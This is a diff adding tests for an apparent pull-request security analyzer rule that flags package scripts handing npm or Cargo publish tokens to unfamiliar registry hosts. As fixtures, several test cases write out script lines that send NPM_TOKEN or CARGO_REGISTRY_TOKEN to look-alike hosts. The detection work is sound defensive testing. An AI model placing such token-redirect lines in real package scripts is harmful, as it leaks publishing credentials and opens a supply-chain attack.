@@ -578,3 +578,24 @@ describe('remote-package-install in package scripts', () => {
     expect(found({ test: 'vitest' }, { test: 'vitest', tools: `npm install -g typescript@5.6.3 && pip install git+https://github.com/someone/pkg@${SHA}` })).toEqual([]);
   });
 });
+
+describe('publish-token-redirect in package scripts', () => {
+  const found = (base: Record<string, string> | null, head: Record<string, string>) =>
+    analyze(snapshotOf(change('package.json', base === null ? null : pkg({ scripts: base }), pkg({ scripts: head }))))
+      .findings.filter((f) => f.id === 'publish-token-redirect')
+      .map((f) => `${f.severity} ${f.title}`);
+  it('reports a script the PR adds or changes that hands a registry-named token to another host, whatever the script is called', () => {
+    expect(found({ test: 'vitest' }, { test: 'vitest', release: 'echo "//npm.tiny-internal.dev/:_authToken=${NPM_TOKEN}" > .npmrc && npm publish' })).toEqual(['high Script "release" gives an npm token to another registry, npm.tiny-internal.dev']);
+    expect(found({ test: 'vitest', prepublishOnly: 'tsc' }, { test: 'vitest', prepublishOnly: 'tsc && npm config set //registry.npm-cache.io/:_authToken "$NPM_TOKEN"' })).toHaveLength(1);
+    expect(found({ test: 'vitest' }, { test: 'vitest', 'release:crate': 'cargo publish --index sparse+https://crates.rs-mirror.dev/index/ --token $CARGO_REGISTRY_TOKEN' })).toHaveLength(1);
+  });
+  it('leaves the registries themselves, GitHub Packages, a private registry\'s own token, the generic NODE_AUTH_TOKEN and a host a base script already had', () => {
+    expect(found({ test: 'vitest' }, { test: 'vitest', release: 'echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > .npmrc && npm publish' })).toEqual([]);
+    expect(found({ test: 'vitest' }, { test: 'vitest', release: 'echo "//npm.pkg.github.com/:_authToken=${NODE_AUTH_TOKEN}" > .npmrc && npm publish' })).toEqual([]);
+    expect(found({ test: 'vitest' }, { test: 'vitest', release: 'echo "//nexus.acme.dev/repository/npm/:_authToken=${NEXUS_NPM_TOKEN}" > .npmrc && npm publish' })).toEqual([]);
+    expect(found({ test: 'vitest' }, { test: 'vitest', release: 'echo "//npm.acme.dev/:_authToken=${NODE_AUTH_TOKEN}" > .npmrc && npm publish' })).toEqual([]);
+    const before = { publish: 'echo "//npm.tiny-internal.dev/:_authToken=${NPM_TOKEN}" > .npmrc && npm publish' };
+    expect(found(before, { ...before, test: 'vitest' })).toEqual([]);
+    expect(found(before, { 'publish:ci': before.publish + ' --tag next' })).toEqual([]);
+  });
+});
